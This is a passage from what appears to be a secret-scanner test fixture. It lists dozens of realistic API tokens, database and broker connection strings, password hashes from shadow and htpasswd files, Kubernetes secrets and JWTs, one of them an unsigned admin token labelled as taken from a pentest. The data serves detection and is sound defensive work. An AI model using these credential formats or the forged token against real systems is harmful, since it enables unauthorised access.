        '1502b132e8361f97382d8373c008fe8fabe3" https://circleci.com/api/v2/me',
        (
            (
                "CCIPAT_OmjB"
                "99siUULZ1zzqdRRy9v_22d0"
                "1502b132e8361f97382d8373c008fe8fabe3"
            ),
        ),
    ),
    SecretSample(
        "buildkite",
        "bk.env",
        "BUILDKITE_TOKEN=bkua_d3a2"
        "7e48978f21a2ebd5df1d867577b55f08b453",
        (
            (
                "bkua_d3a2"
                "7e48978f21a2ebd5df1d867577b55f08b453"
            ),
        ),
    ),
    SecretSample(
        "pulumi",
        "pulumi.sh",
        "export PULUMI_ACCESS_TOKEN=pul-88be"
        "ae09ad99f40d031dc990545fa2864c79c147",
        (
            (
                "pul-88be"
                "ae09ad99f40d031dc990545fa2864c79c147"
            ),
        ),
    ),
    SecretSample(
        "prefect",
        "prefect.toml",
        'PREFECT_API_KEY = "pnu_6na2'
        '8ti2ny1j7enpl7ll38s80jtju6anih3e"',
        (
            (
                "pnu_6na2"
                "8ti2ny1j7enpl7ll38s80jtju6anih3e"
            ),
        ),
    ),
    SecretSample(
        "launchdarkly",
        "ld.go",
        'client, _ := ld.MakeClient("sdk-00064eb5'
        '-5897-4c26-b319-42994e5d4b2a", 5*time.Second)',
        (
            (
                "sdk-00064eb5"
                "-5897-4c26-b319-42994e5d4b2a"
            ),
        ),
    ),
    SecretSample(
        "tailscale",
        "up.sh",
        "tailscale up --authkey tskey-auth-ovre"
        "isnGi4t4CNTRL-eQDv"
        "kJ4YnkTbiygzPLvMNPxUQzg0QSfc",
        (
            (
                "tskey-auth-ovre"
                "isnGi4t4CNTRL-eQDv"
                "kJ4YnkTbiygzPLvMNPxUQzg0QSfc"
            ),
        ),
    ),
    SecretSample(
        "ngrok",
        "ngrok.yml",
        "version: 3\n"
        "agent:\n"
        "  authtoken: 2fiEB"
        "NYBiwN5B5Q7HPstqgNWvkK_uxvv"
        "nyQIygWK1enmEono9",
        (
            (
                "2fiEB"
                "NYBiwN5B5Q7HPstqgNWvkK_uxvv"
                "nyQIygWK1enmEono9"
            ),
        ),
    ),
    SecretSample(
        "infura",
        "hardhat.config.js",
        'url: "https://mainnet.infura.io/v3/3940'
        '2e9171b191b55edeea31bfee952d",',
        (
            (
                "3940"
                "2e9171b191b55edeea31bfee952d"
            ),
        ),
    ),
    SecretSample(
        "alchemy",
        ".env",
        "ALCHEMY_URL=https://eth-mainnet.g.alchemy.com/v2/91mc"
        "lgGWy3d74cRc6wN-l-HRGveX4DQG",
        (
            (
                "91mc"
                "lgGWy3d74cRc6wN-l-HRGveX4DQG"
            ),
        ),
    ),
    SecretSample(
        "facebook-token",
        "fb.php",
        "$fb->setDefaultAccessToken('EAARBbD"
        "WREFHubloqRQddiZ1HgQtysF6An5xMRAGbCvVtbgRHFawH40FvWagGv6RQpxAwElBQgkV2SCfp3L4nZALTN6T5iP"
        "KOGladEGxXudoKTvZRKlrZVYYky3z8tzqo9DoXNOCFFJUOVVp8cLpcBsNSAXaTgPDePIkerdayBkGhizLY7Dl1Wl');",
        (
            (
                "EAARBbD"
                "WREFHubloqRQddiZ1HgQtysF6An5xMRAGbCvVtbgRHFawH40FvWagGv6RQpxAwElBQgkV2SCfp3L4nZALTN6T5iP"
                "KOGladEGxXudoKTvZRKlrZVYYky3z8tzqo9DoXNOCFFJUOVVp8cLpcBsNSAXaTgPDePIkerdayBkGhizLY7Dl1Wl"
            ),
        ),
    ),
    SecretSample(
        "twitter-bearer",
        "tw.py",
        'BEARER = "AAAAAAAAAAAAAAAAAAAAAH1z19RQAAAAAAne4v'
        "38hjknuL4HE2%3Dzrod"
        'dDSe8FDXBHvT2jHG3jaJJxngUJ1O51x1r9EepgXgwDIRuv"',
        (
            (
                "AAAAAAAAAAAAAAAAAAAAAH1z19RQAAAAAAne4v"
                "38hjknuL4HE2%3Dzrod"
                "dDSe8FDXBHvT2jHG3jaJJxngUJ1O51x1r9EepgXgwDIRuv"
            ),
        ),
    ),
    SecretSample(
        "twitter-oauth1",
        "tw.rb",
        'config.consumer_key        = "QR6m'
        'lltxNvwlkY1mcUMlCrAIU"\n'
        'config.consumer_secret     = "Ev4S'
        'Ock5fyUHsYs0sBGOZTpKpggXlQvGP2biRrgYKRCzR3qkTu"\n'
        'config.access_token_secret = "SaxU'
        '2sVMb3h0goHL3lo4adcPlTBCzR2gQoxRhAZ6SAVTV"',
        (
            (
                "Ev4S"
                "Ock5fyUHsYs0sBGOZTpKpggXlQvGP2biRrgYKRCzR3qkTu"
            ),
            (
                "SaxU"
                "2sVMb3h0goHL3lo4adcPlTBCzR2gQoxRhAZ6SAVTV"
            ),
        ),
    ),
    SecretSample(
        "yandex",
        "yc.sh",
        "yc config set token y0_AgAAAAhK3Y"
        "dIxPrvDP7_WdUMpUJgZZf5tZDbmYg22_J5HSuXwbarc5Z",
        (
            (
                "y0_AgAAAAhK3Y"
                "dIxPrvDP7_WdUMpUJgZZf5tZDbmYg22_J5HSuXwbarc5Z"
            ),
        ),
    ),
    SecretSample(
        "alibaba",
        "oss.py",
        'auth = oss2.Auth("LTAI5tuQOD'
        'OmyF3eir398tdw", "T9mm'
        '6MTAPctOyLW8SmolTLBn8qTu4B")',
        (
            (
                "T9mm"
                "6MTAPctOyLW8SmolTLBn8qTu4B"
            ),
        ),
    ),
    SecretSample(
        "tencent",
        "cos.go",
        'SecretID: "AKIDvZ1R'
        'ti846uEDfToY3VCuMBFbFH45YbyV", SecretKey: "QD01'
        'h2pOen51kwiUnqfxcnR7MXQLOLMn",',
        (
            (
                "QD01"
                "h2pOen51kwiUnqfxcnR7MXQLOLMn"
            ),
        ),
    ),
    SecretSample(
        "cloudinary",
        ".env",
        "CLOUDINARY_URL=cloudinary://6077"
        "24888904561:DkuW"
        "U-fwAlO2BkkpkIq6dn1UQbe@mercorve",
        (
            (
                "DkuW"
                "U-fwAlO2BkkpkIq6dn1UQbe"
            ),
        ),
    ),
    SecretSample(
        "zapier-hook",
        "hook.sh",
        "curl -d @e.json https://hooks.zapier.com/hooks/catch/9509401/mtllkhi/",
        (
            "mtllkhi",
        ),
    ),
    SecretSample(
        "scaleway",
        "scw.yaml",
        "access_key: SCWOXZD"
        "V9INCN20Y80PU\n"
        "secret_key: 1c61bc93"
        "-cdd0-4394-9fda-48853caf9433",
        (
            (
                "1c61bc93"
                "-cdd0-4394-9fda-48853caf9433"
            ),
        ),
    ),
    SecretSample(
        "hetzner",
        "hcloud.tf",
        'hcloud_token = "gwB9'
        'UjcWDeuVoqWSExYh12uz4UqwppMTcXuD6bxwHPH7fP96zbPhgHsQNv47JDbC"',
        (
            (
                "gwB9"
                "UjcWDeuVoqWSExYh12uz4UqwppMTcXuD6bxwHPH7fP96zbPhgHsQNv47JDbC"
            ),
        ),
    ),
    SecretSample(
        "linode",
        "linode.env",
        "LINODE_TOKEN=07fb"
        "55c8ffa0fa0b60bed3616e0e3ebecf20f8829ba202540cd2e06d4d98651c",
        (
            (
                "07fb"
                "55c8ffa0fa0b60bed3616e0e3ebecf20f8829ba202540cd2e06d4d98651c"
            ),
        ),
    ),
    SecretSample(
        "ovh",
        "ovh.conf",
        "application_key=jbyJ"
        "U5eBM1Un72P3\n"
        "application_secret=bMqn"
        "Po8dBtJU85ukSuJtjyxiJfck7Kfc\n"
        "consumer_key=cA6e"
        "IFI5wAIx7iLb1GRoqAMt5TWCuOKs",
        (
            (
                "bMqn"
                "Po8dBtJU85ukSuJtjyxiJfck7Kfc"
            ),
            (
                "cA6e"
                "IFI5wAIx7iLb1GRoqAMt5TWCuOKs"
            ),
        ),
    ),
    SecretSample(
        "mongodb-url",
        ".env",
        "MONGO_URI=mongodb+srv://api:uC1R"
        "fqsNMbN8qoMMUuQqf1wt@c0.hmb8a.mongodb.net/prod?retryWrites=true&w=majority",
        (
            (
                "uC1R"
                "fqsNMbN8qoMMUuQqf1wt"
            ),
        ),
    ),
    SecretSample(
        "mongodb-url",
        "db.js",
        'mongoose.connect("mongodb://root:dw%3AnE6'
        'GeINLbA9zx%235@10.2.0.4:27017,10.2.0.5:27017/app?authSource=admin")',
        (
            (
                "dw%3AnE6"
                "GeINLbA9zx%235"
            ),
        ),
    ),
    SecretSample(
        "postgres-url",
        "config/database.yml",
        "url: postgresql://app:uoV9"
        "Bc4mpx4YBOObNbQnE@pg.baquilab.internal:5432/app_prod",
        (
            (
                "uoV9"
                "Bc4mpx4YBOObNbQnE"
            ),
        ),
    ),
    SecretSample(
        "postgres-url",
        "alembic.ini",
        "sqlalchemy.url = postgresql+psycopg2://svc:r6G%23Ar"
        "%2FOYzTLM%23%3AckC@localhost/ledger",
        (
            (
                "r6G%23Ar"
                "%2FOYzTLM%23%3AckC"
            ),
        ),
    ),
    SecretSample(
        "postgres-url-query",
        "app.env",
        "DSN=postgres://db.dalpraho.net/app?user=svc&password=SLex"
        "2qPR8N5njvZLSkgNLTp&sslmode=require",
        (
            (
                "SLex"
                "2qPR8N5njvZLSkgNLTp"
            ),
        ),
    ),
    SecretSample(
        "postgres-dsn-kv",
        "conn.go",
        'dsn := "host=10.1.4.2 user=app password=KWWo'
        'JMRmNHIr8GdqqKH8UtmHmh dbname=prod port=5432 sslmode=disable"',
        (
            (
                "KWWo"
                "JMRmNHIr8GdqqKH8UtmHmh"
            ),
        ),
    ),
    SecretSample(
        "mysql-url",
        ".env",
        'DATABASE_URL="mysql://shop:SSOD'
        'g9qDvDI9QESEavhEG1SBxjc@127.0.0.1:3306/shop?serverVersion=8.0"',
        (
            (
                "SSOD"
                "g9qDvDI9QESEavhEG1SBxjc"
            ),
        ),
    ),
    SecretSample(
        "mysql-go-dsn",
        "main.go",
        'sql.Open("mysql", "app:WAO6'
        'b2pMVxUMxDv9@tcp(10.0.3.9:3306)/orders?parseTime=true")',
        (
            (
                "WAO6"
                "b2pMVxUMxDv9"
            ),
        ),
    ),
    SecretSample(
        "redis-url",
        "cache.py",
        'r = redis.from_url("rediss://:vsOR'
        'G0XHoGdhoAclagUL4qLZweImcA2U@tankufen.cache.net:6380/0")',
        (
            (
                "vsOR"
                "G0XHoGdhoAclagUL4qLZweImcA2U"
            ),
        ),
    ),
    SecretSample(
        "redis-conn",
        "appsettings.json",
        '"Redis": "quinorco.redis.cache.windows.net:6380,password=YRpB'
        'O02qfnRqNHpsfzdNcpHWnKgCwzRcX6TH044ZNfo=,ssl=True,abortConnect=False"',
        (
            (
                "YRpB"
                "O02qfnRqNHpsfzdNcpHWnKgCwzRcX6TH044ZNfo"
            ),
        ),
    ),
    SecretSample(
        "redis-requirepass",
        "redis.conf",
        "requirepass WZbr"
        "F82BOHh7RvfsSI78wgsb",
        (
            (
                "WZbr"
                "F82BOHh7RvfsSI78wgsb"
            ),
        ),
    ),
    SecretSample(
        "amqp-url",
        "celery.py",
        'broker_url = "amqps://worker:Xgip'
        'qC8MdjL4yN6HqqvVnd7@mq.velalano.io:5671/prod"',
        (
            (
                "Xgip"
                "qC8MdjL4yN6HqqvVnd7"
            ),
        ),
    ),
    SecretSample(
        "ftp-url",
        "sync.sh",
        'lftp -e "mirror -R dist /www;quit" ftp://web:dVME'
        "0thG6weKsaDMg87JgYx@ftp.quifigom.de",
        (
            (
                "dVME"
                "0thG6weKsaDMg87JgYx"
            ),
        ),
    ),
    SecretSample(
        "smtp-url",
        ".env",
        "MAILER_DSN=smtp://robot%40devesilg.de:J7O0"
        "U1cDFtrpnNXRwV0fzjJL@smtp.devesilg.de:587",
        (
            (
                "J7O0"
                "U1cDFtrpnNXRwV0fzjJL"
            ),
        ),
    ),
    SecretSample(
        "ldap-url",
        "ldap.yaml",
        "ldap: ldaps://cn=svc,dc=corp:Twww"
        "dFbpgTRdwVpnpBjHliE43N@dc1.corp.lan:636",
        (
            (
                "Twww"
                "dFbpgTRdwVpnpBjHliE43N"
            ),
        ),
    ),
    SecretSample(
        "clickhouse-url",
        "ch.py",
        'URI = "clickhouse+native://etl:QUI2'
        'QwAV7Z861XG8RGDRu1uQ@ch.garbakus.net/default"',
        (
            (
                "QUI2"
                "QwAV7Z861XG8RGDRu1uQ"
            ),
        ),
    ),
    SecretSample(
        "proxy-url",
        "Dockerfile",
        "ENV HTTPS_PROXY=http://proxyuser:jq0x"
        "XWH1JVRC49RHGkM89WP@proxy.corp.lan:3128",
        (
            (
                "jq0x"
                "XWH1JVRC49RHGkM89WP"
            ),
        ),
    ),
    SecretSample(
        "apt-auth",
        "auth.conf.d/repo.conf",
        "machine repo.holvemer.com login build password LCkY"
        "rAo9QXPEE1f18t",
        (
            (
                "LCkY"
                "rAo9QXPEE1f18t"
            ),
        ),
    ),
    SecretSample(
        "odbc-pwd-braces",
        "etl.py",
        'pyodbc.connect("DRIVER={ODBC Driver 18 for SQL Server};SERVER=sql01;UID=etl;PWD={j!sq5B@@'
        '!kTa@E3wrU};Encrypt=yes")',
        (
            (
                "j!sq5B@@"
                "!kTa@E3wrU"
            ),
        ),
    ),
    SecretSample(
        "odbc-pwd",
        "report.vbs",
        'conn.Open "Provider=SQLOLEDB;Data Source=sql01;User ID=rep;Password=bCe_*+*d'
        'jevOcTA?i8P;"',
        (
            (
                "bCe_*+*d"
                "jevOcTA?i8P"
            ),
        ),
    ),
    SecretSample(
        "ado-conn",
        "Web.config",
        '<add name="Main" connectionString="Server=sql01;Database=crm;User Id=crm;Password=6W@nD1eq'
        '3gZT-?z;" />',
        (
            (
                "6W@nD1eq"
                "3gZT-?z"
            ),
        ),
    ),
    SecretSample(
        "ado-conn-quoted",
        "app.config",
        "connectionString=\"Data Source=ora;User Id=app;Password='ik;!6glT"
        "f6@FUmWt=g';\"",
        (
            (
                "ik;!6glT"
                "f6@FUmWt=g"
            ),
        ),
    ),
    SecretSample(
        "jdbc-url",
        "persistence.xml",
        '<property name="url" value="jdbc:postgresql://pg/app?user=app&amp;password=xhnT'
        'gGkQW27VM1pyJklha6cJ&amp;ssl=true"/>',
        (
            (
                "xhnT"
                "gGkQW27VM1pyJklha6cJ"
            ),
        ),
    ),
    SecretSample(
        "jdbc-sqlserver",
        "application.properties",
        "spring.datasource.url=jdbc:sqlserver://sql01:1433;databaseName=hr;user=hr;password=GsKQ"
        "opbXBLDgEEJ0Rvl2XnDo;encrypt=true",
        (
            (
                "GsKQ"
                "opbXBLDgEEJ0Rvl2XnDo"
            ),
        ),
    ),
    SecretSample(
        "jdbc-oracle-thin",
        "etl.properties",
        "url=jdbc:oracle:thin:billing/uSne"
        "uSAm8rgqTw72U@//ora01:1521/ORCLPDB",
        (
            (
                "uSne"
                "uSAm8rgqTw72U"
            ),
        ),
    ),
    SecretSample(
        "oracle-sqlplus",
        "load.sh",
        "sqlplus -s system/eAsi"
        "o4HG5VkBvdeKiNzsdcX@ORCL @load.sql",
        (
            (
                "eAsi"
                "o4HG5VkBvdeKiNzsdcX"
            ),
        ),
    ),
    SecretSample(
        "netrc",
        ".netrc",
        "machine git.pratanda.io login deploy password jjz7"
        "54Q9kGryVvfehagubkNfUS",
        (
            (
                "jjz7"
                "54Q9kGryVvfehagubkNfUS"
            ),
        ),
    ),
    SecretSample(
        "pgpass",
        ".pgpass",
        "pg01.corp.lan:5432:app:app_rw:TP2q"
        "M02DvBZpjWYAcuJ5cLTF1202",
        (
            (
                "TP2q"
                "M02DvBZpjWYAcuJ5cLTF1202"
            ),
        ),
    ),
    SecretSample(
        "htpasswd-bcrypt",
        ".htpasswd",
        "admin:$2y$10$nyRM"
        "Ab6ylA/5ValyE9wPRck3/g5zROegtl6MMY03ZyBQWBMD2baYn",
        (
            (
                "$2y$10$nyRM"
                "Ab6ylA/5ValyE9wPRck3/g5zROegtl6MMY03ZyBQWBMD2baYn"
            ),
        ),
    ),
    SecretSample(
        "htpasswd-apr1",
        ".htpasswd",
        "ops:$apr1$xLIZrlfA$ixn."
        "oRRnYyiZgPO0oT8JTE",
        (
            (
                "$apr1$xLIZrlfA$ixn."
                "oRRnYyiZgPO0oT8JTE"
            ),
        ),
    ),
    SecretSample(
        "htpasswd-sha",
        ".htpasswd",
        "build:{SHA}3dMS"
        "g6JGhusa0rG1MoerwtFLdK3=",
        (
            (
                "3dMS"
                "g6JGhusa0rG1MoerwtFLdK3"
            ),
        ),
    ),
    SecretSample(
        "shadow-sha512",
        "etc/shadow",
        "root:$6$DWx9"
        "8AtgR8Ti7YLh$nBfk"
        "CSsXTnjcywRTsnrAnKvVL.TOWDWc5ApqCAMpJ9ao6ieLGIZEC3dSsvXYdIQ2rIJrJgwQWiEJzarTllTXUH:19732"
        ":0:99999:7:::",
        (
            (
                "$6$DWx9"
                "8AtgR8Ti7YLh$nBfk"
                "CSsXTnjcywRTsnrAnKvVL.TOWDWc5ApqCAMpJ9ao6ieLGIZEC3dSsvXYdIQ2rIJrJgwQWiEJzarTllTXUH"
            ),
        ),
    ),
    SecretSample(
        "kickstart",
        "ks.cfg",
        "rootpw --iscrypted $6$Hy4E"
        "ZSirB7admyKL$XkfS"
        "1tRoy/lDIcAv0kJB391QVQq2CHQyVEjaLWcfTmSFmACApyQWR0hKZ7Zduk2mt9Bk00Ey6qrDH5fHlLssnx",
        (
            (
                "$6$Hy4E"
                "ZSirB7admyKL$XkfS"
                "1tRoy/lDIcAv0kJB391QVQq2CHQyVEjaLWcfTmSFmACApyQWR0hKZ7Zduk2mt9Bk00Ey6qrDH5fHlLssnx"
            ),
        ),
    ),
    SecretSample(
        "yescrypt",
        "user-data",
        "passwd: $y$j9T$/fmf"
        "W.eU94emFQ1yAkq.gg$c.D0"
        "p/Fg5ZV9QJEXlu34yMcvq9ojEmVRvaZ3GmFPtP8",
        (
            (
                "$y$j9T$/fmf"
                "W.eU94emFQ1yAkq.gg$c.D0"
                "p/Fg5ZV9QJEXlu34yMcvq9ojEmVRvaZ3GmFPtP8"
            ),
        ),
    ),
    SecretSample(
        "kubeconfig",
        "kubeconfig.yaml",
        "users:\n"
        "- name: admin\n"
        "  user:\n"
        "    client-key-data: LS0tLS1C"
        "RUdJTiBFQyBQUklWQVRFIEtFWS0tLS0tCk1IY0NBUUVFSUZNUVFkK2swRklHK2lJNmtYeS9CWmNsUFUzakpNYkdH"
        "OUpuWjlYRnZ3cFdvQW9HQ0NxR1NNNDkKQXdFSG9VUURRZ0FFNHdmTjhtUHFSTHIrblVPemVXR1g2VjNycWl5amNr"
        "NDRWdDdaNDlFYVBBNlZ4M2RYUW5GdgpHNFJFNWJNYWdYNG9lakxSc0gwOWJaODh4K28zQTNxeGtnPT0KLS0tLS1F"
        "TkQgRUMgUFJJVkFURSBLRVktLS0tLQ==",
        (
            (
                "LS0tLS1C"
                "RUdJTiBFQyBQUklWQVRFIEtFWS0tLS0tCk1IY0NBUUVFSUZNUVFkK2swRklHK2lJNmtYeS9CWmNsUFUzakpNYkdH"
                "OUpuWjlYRnZ3cFdvQW9HQ0NxR1NNNDkKQXdFSG9VUURRZ0FFNHdmTjhtUHFSTHIrblVPemVXR1g2VjNycWl5amNr"
                "NDRWdDdaNDlFYVBBNlZ4M2RYUW5GdgpHNFJFNWJNYWdYNG9lakxSc0gwOWJaODh4K28zQTNxeGtnPT0KLS0tLS1F"
                "TkQgRUMgUFJJVkFURSBLRVktLS0tLQ=="
            ),
        ),
    ),
    SecretSample(
        "kubeconfig-token",
        "kubeconfig.yaml",
        "users:\n"
        "- name: ci\n"
        "  user:\n"
        "    token: eyJhbGci"
        "OiJSUzI1NiIsImtpZCI6IjE0RDFBdmpUMHYzUjA5X1ZBQTZRX1p4Uk82dXpGMjhPS3VSMGFYWWVncE0ifQ.eyJpc"
        "3MiOiJrdWJlcm5ldGVzL3NlcnZpY2VhY2NvdW50Iiwia3ViZXJuZXRlcy5pby9zZXJ2aWNlYWNjb3VudC9uYW1lc"
        "3BhY2UiOiJjaSIsImt1YmVybmV0ZXMuaW8vc2VydmljZWFjY291bnQvc2VydmljZS1hY2NvdW50LnVpZCI6IjhjZ"
        "TU5YzI2LTQwM2MtNGUwMC04NGUwLThhOWZkZTM4NDQzZSIsInN1YiI6InN5c3RlbTpzZXJ2aWNlYWNjb3VudDpja"
        "TpkZXBsb3llciJ9.ZEfIp0BL0TH7chp-EhurmRhU-rcGT1NvjZGbDz_AQR3ZI9NjDyb4JIwzjGR5oo_c76SUwRsK"
        "wkZ_BwMrQ84BWIX5jbcvgIj8UVUq5DX5mfAO90-irp7lkAKfhd2LXrKtiH5cpaIBoqZApMAR-I8VLAhf832TlkIw"
        "G_4WsosP4e7CzJ3a7OmH6-0FVEzelrovvzKgVW6oRt0inku7bz4FtNMgDW86B3MZ5go2w0yTWSkb1aZPxqhDwKLA"
        "UaiquynygfZSB-U-iyKBJITUgfwW6Ux6h9YhulsJz23daA6OQ6ZFMiT_rhpQxRDHsud3y7Oip7j4sojTu6POpMAGZ1tmBQ",
        (
            (
                "eyJhbGci"
                "OiJSUzI1NiIsImtpZCI6IjE0RDFBdmpUMHYzUjA5X1ZBQTZRX1p4Uk82dXpGMjhPS3VSMGFYWWVncE0ifQ.eyJpc"
                "3MiOiJrdWJlcm5ldGVzL3NlcnZpY2VhY2NvdW50Iiwia3ViZXJuZXRlcy5pby9zZXJ2aWNlYWNjb3VudC9uYW1lc"
                "3BhY2UiOiJjaSIsImt1YmVybmV0ZXMuaW8vc2VydmljZWFjY291bnQvc2VydmljZS1hY2NvdW50LnVpZCI6IjhjZ"
                "TU5YzI2LTQwM2MtNGUwMC04NGUwLThhOWZkZTM4NDQzZSIsInN1YiI6InN5c3RlbTpzZXJ2aWNlYWNjb3VudDpja"
                "TpkZXBsb3llciJ9.ZEfIp0BL0TH7chp-EhurmRhU-rcGT1NvjZGbDz_AQR3ZI9NjDyb4JIwzjGR5oo_c76SUwRsK"
                "wkZ_BwMrQ84BWIX5jbcvgIj8UVUq5DX5mfAO90-irp7lkAKfhd2LXrKtiH5cpaIBoqZApMAR-I8VLAhf832TlkIw"
                "G_4WsosP4e7CzJ3a7OmH6-0FVEzelrovvzKgVW6oRt0inku7bz4FtNMgDW86B3MZ5go2w0yTWSkb1aZPxqhDwKLA"
                "UaiquynygfZSB-U-iyKBJITUgfwW6Ux6h9YhulsJz23daA6OQ6ZFMiT_rhpQxRDHsud3y7Oip7j4sojTu6POpMAGZ1tmBQ"
            ),
        ),
    ),
    SecretSample(
        "k8s-secret-data",
        "secret.yaml",
        "apiVersion: v1\n"
        "kind: Secret\n"
        "metadata:\n"
        "  name: mailer\n"
        "data:\n"
        "  smtp-relay: cjA3T09N"
        "NEhVczljNDlsNFB3OUU=\n"
        "  zeta: U0lTc3E4"
        "UkRPaEZoVXVJZjJST05xTnda",
        (
            (
                "cjA3T09N"
                "NEhVczljNDlsNFB3OUU="
            ),
            (
                "U0lTc3E4"
                "UkRPaEZoVXVJZjJST05xTnda"
            ),
        ),
    ),
    SecretSample(
        "k8s-secret-stringdata",
        "secret2.yaml",
        "apiVersion: v1\n"
        "kind: Secret\n"
        "metadata:\n"
        "  name: app\n"
        "stringData:\n"
        "  alpha: d5mU"
        "zFYiYjNeC8nOVIIQ\n"
        "  LICENSE: TYBT"
        "W2R7FVKSE8YY9M3TKMHRM",
        (
            (
                "d5mU"
                "zFYiYjNeC8nOVIIQ"
            ),
            (
                "TYBT"
                "W2R7FVKSE8YY9M3TKMHRM"
            ),
        ),
    ),
    SecretSample(
        "k8s-secret-stringdata-block",
        "secret3.yaml",
        "kind: Secret\n"
        "apiVersion: v1\n"
        "stringData:\n"
        "  app.ini: |\n"
        "    [x]\n"
        "    passphrase = rJtK"
        "deEo8sQN39cdqeLkZoJj",
        (
            (
                "rJtK"
                "deEo8sQN39cdqeLkZoJj"
            ),
        ),
    ),
    SecretSample(
        "k8s-secret-json",
        "secret.json",
        '{"apiVersion":"v1","kind":"Secret","metadata":{"name":"q"},"data":{"blob":"S3Y3dzF2'
        'ZmYyeERXeGp6NFdHWVZSbmlu"}}',
        (
            (
                "S3Y3dzF2"
                "ZmYyeERXeGp6NFdHWVZSbmlu"
            ),
        ),
    ),
    SecretSample(
        "k8s-bootstrap-token",
        "join.sh",
        "kubeadm join 10.0.0.1:6443 --token 114kb4.ohx6"
        "m78l1s817yp0 --discovery-token-ca-cert-hash sha256:4957"
        "9b3b1a4f0d08e84604e5bf0a10d70408733e516a7bbb908c2f47783007cb",
        (
            (
                "114kb4.ohx6"
                "m78l1s817yp0"
            ),
        ),
    ),
    SecretSample(
        "b64-github",
        "ci.yaml",
        "token_b64: Z2hwX2x3"
        "NHI0cUxDWlNxakIyUVBtWVhpaHpRY3JvMUEzUTQ1UzhjOA==",
        (
            (
                "Z2hwX2x3"
                "NHI0cUxDWlNxakIyUVBtWVhpaHpRY3JvMUEzUTQ1UzhjOA=="
            ),
        ),
    ),
    SecretSample(
        "b64-stripe",
        "seed.json",
        '{"blob": "c2tfbGl2'
        "ZV81MWk1ejdUU0xFSTg4a1Y3VG1EVlVyZGNYNktwdWowY0dRaVNnWHF2ZHRYd3Fqb0FMcnRXU2tZQkJxcWlYUTB4"
        'MzVrUERpYU54T1E3SVhUczJWR3RPbGh1czBFWkNPYUlycW4="}',
        (
            (
                "c2tfbGl2"
                "ZV81MWk1ejdUU0xFSTg4a1Y3VG1EVlVyZGNYNktwdWowY0dRaVNnWHF2ZHRYd3Fqb0FMcnRXU2tZQkJxcWlYUTB4"
                "MzVrUERpYU54T1E3SVhUczJWR3RPbGh1czBFWkNPYUlycW4="
            ),
        ),
    ),
    SecretSample(
        "b64-slack",
        "values.yaml",
        "slackTokenB64: eG94Yi05"
        "NTY1NDI4NzQxMTctNDQ5MjE4NzQyODg5My1CdmdsbVFGVTRHRXJTeEZycDVjalhnNzY=",
        (
            (
                "eG94Yi05"
                "NTY1NDI4NzQxMTctNDQ5MjE4NzQyODg5My1CdmdsbVFGVTRHRXJTeEZycDVjalhnNzY="
            ),
        ),
    ),
    SecretSample(
        "pct-glpat",
        "links.md",
        "https://ci.corgodal.io/cb?state=x&token=%67lp%61"
        "t%2D%4DEe%63rV%51u7%37Qn%53YD%56B3%31z",
        (
            (
                "%67lp%61"
                "t%2D%4DEe%63rV%51u7%37Qn%53YD%56B3%31z"
            ),
        ),
    ),
    SecretSample(
        "pct-password-url",
        ".env",
        "AMQP_URL=amqp://svc:Cluz%3A6"
        "4%2FqKMT1T%2FwJH@mq:5672/%2f",
        (
            (
                "Cluz%3A6"
                "4%2FqKMT1T%2FwJH"
            ),
        ),
    ),
    SecretSample(
        "b64-url-conn",
        "cm.yaml",
        "db: cG9zdGdy"
        "ZXM6Ly9hcHA6YWZMM3lZVTJhSDZHODM1c0xKNlpAcGc6NTQzMi9wcm9k",
        (
            (
                "cG9zdGdy"
                "ZXM6Ly9hcHA6YWZMM3lZVTJhSDZHODM1c0xKNlpAcGc6NTQzMi9wcm9k"
            ),
        ),
    ),
    SecretSample(
        "jwt",
        "curl.sh",
        'curl -H "Authorization: Bearer eyJhbGci'
        "OiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI3ODU0MTAwOCIsImlhdCI6MTcxNTU2MTU4MCwiZXhwIjoxODE"
        '0Nzk4MzkzLCJyb2xlIjoib3BzIn0.vMNVy1vkg-O-oBhSOUxm7X7KNpq0aoNitVRsdelVGXs" https://api.da'
        "lrosbe.io/v1/me",
        (
            (
                "eyJhbGci"
                "OiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI3ODU0MTAwOCIsImlhdCI6MTcxNTU2MTU4MCwiZXhwIjoxODE"
                "0Nzk4MzkzLCJyb2xlIjoib3BzIn0.vMNVy1vkg-O-oBhSOUxm7X7KNpq0aoNitVRsdelVGXs"
            ),
        ),
    ),
    SecretSample(
        "jwt-none",
        "attack.md",
        "Token used in the pentest: `eyJhbGci"
        "OiJub25lIn0.eyJzdWIiOiIzNTcwNTIxNjIiLCJpYXQiOjE3MTQ4MzkxMjAsImV4cCI6MTgxNDkwNTgxOCwiYWRt"
        "aW4iOnRydWV9.`",
        (
            (
                "eyJhbGci"
                "OiJub25lIn0.eyJzdWIiOiIzNTcwNTIxNjIiLCJpYXQiOjE3MTQ4MzkxMjAsImV4cCI6MTgxNDkwNTgxOCwiYWRt"
                "aW4iOnRydWV9"
            ),
        ),
    ),
    SecretSample(
        "jwt-rs256",
        "fixtures/session.json",
        '{"id_token": "eyJhbGci'
        "OiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6IjAzZjhlZmRiZDc4YjRjZmQifQ.eyJzdWIiOiI0ODIyMTg5OTIiL"
        "CJpYXQiOjE3MTUzMzczMzcsImV4cCI6MTgxNDgyODY4NiwiaXNzIjoiaHR0cHM6Ly9pZC5jb3JwLmxhbiJ9.DBmU"
        "-QrJjfC8ZGSkSutPD2nRIuDEag0QH7RIWySS4MA2zGoi900KGkkdEZn6XIHA9y2E2Me3C_8_BQNvXaTfserrEMfG"
        "Y0CH8WeYexi8F4J97x6-WduVV-I-P-MT0I0ARaZLqefv7xBBLKQWxNn4uUZ3tRz3pjOOIhp_0i8cyG5x-1UYywQY"
        "ux55Us84GAguxONGKm4hgWys6qXmX6bjCrGXAyJOTi1rTIa5_r9sk3S9I0znaFO8glsiKth6InqxV0Vtia_9FN-H"
        '9k0R4aEyFjl-9enNshAazLxCxlrgWapKAgLGhiyn8uW_eC1NG2Vb1e4faXsaO-q2ytGdEM9BrQ"}',
        (
            (
                "eyJhbGci"
                "OiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6IjAzZjhlZmRiZDc4YjRjZmQifQ.eyJzdWIiOiI0ODIyMTg5OTIiL"
                "CJpYXQiOjE3MTUzMzczMzcsImV4cCI6MTgxNDgyODY4NiwiaXNzIjoiaHR0cHM6Ly9pZC5jb3JwLmxhbiJ9.DBmU"
